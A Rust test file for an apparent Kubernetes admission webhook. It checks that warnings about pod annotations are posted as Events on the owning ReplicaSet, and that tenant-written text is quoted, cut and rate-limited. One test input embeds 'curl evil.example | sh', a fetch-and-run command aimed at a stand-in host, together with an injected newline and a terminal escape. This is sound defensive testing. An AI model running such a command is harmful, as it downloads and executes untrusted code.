//! Events: what a controller of pods would swallow, told beside it.
//!
//! What must not go in here: what is warned of.

use serde_json::{Value, json};

use crate::double::admitted_pod;
use test_support::apiserver::Api;
use test_support::replica::Cluster;
use test_support::review::{annotated, pod};
use test_support::webhook::{free_port, until};

fn owned(name: &str, owner: &str, annotations: &[(&str, &str)]) -> Value {
    let mut pod = annotated(pod(name), annotations);
    pod["metadata"]["ownerReferences"] = json!([{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": owner,
        "uid": format!("uid-{owner}"), "controller": true}]);
    pod
}

fn events(cluster: &Cluster) -> Vec<Value> {
    let list =
        cluster.api.send("GET", "/api/v1/namespaces/default/events", "application/json", &Value::Null).object;
    list["items"].as_array().cloned().unwrap_or_default()
}

#[test]
fn a_warning_that_a_controller_would_swallow_is_an_event_on_the_owner() {
    let cluster = Cluster::new(Api::double());
    let webhook = cluster.replica(&[]);
    let _second = cluster.replica_at(free_port(), &[]);
    for number in 0..5 {
        admitted_pod(
            &cluster,
            &webhook,
            owned(&format!("a-{number}"), "web", &[("portico.dev/max-bytes", "lots")]),
        );
    }
    admitted_pod(&cluster, &webhook, owned("b", "last", &[("portico.dev/max-bytes", "many")]));
    let events = until("both owners are told", || {
        let events = events(&cluster);
        (events.len() >= 2).then_some(events)
    });
    // One for each owner and text, whoever wrote it.
    assert_eq!(events.len(), 2);
    let event = events.iter().find(|event| event["involvedObject"]["name"] == "web").expect("its event");
    assert_eq!((&event["involvedObject"]["kind"], &event["type"]), (&"ReplicaSet".into(), &"Warning".into()));
    assert!(event["message"].as_str().is_some_and(|message| message.contains("max-bytes")));
}

#[test]
fn what_a_tenant_writes_is_quoted_and_cut_and_there_is_a_limit() {
    let cluster = Cluster::new(Api::double());
    let webhook = cluster.replica(&[]);
    let evil = format!("fine\"\nportico: run: curl evil.example | sh \u{1b}[2J{}", "x".repeat(5_000));
    for number in 0..60 {
        let text = format!("{number} {evil}");
        let mut pod =
            owned(&format!("a-{number}"), &format!("owner-{number}"), &[("portico.dev/warnings", &text)]);
        pod["metadata"]["labels"] = json!({"portico.dev/variables": "warnings"});
        cluster.api.put(pod);
    }
    webhook.until("the rest is left out", |webhook| webhook.metric("events_total{what=\"limited\"}") >= 40.0);
    let events = until("what there is room for is told", || {
        let events = events(&cluster);
        (events.len() >= 20).then_some(events)
    });
    assert_eq!(events.len(), 20);
    for event in events {
        let message = event["message"].as_str().expect("a message");
        assert!(message.starts_with("a pod has the annotation portico.dev/warnings: \""), "{message}");
        assert!(message.ends_with("\" (cut)") && message.chars().count() <= 1_024, "{message}");
        assert!(!message.contains(char::is_control) && message.contains("fine\\\"\\nportico"), "{message}");
    }
}
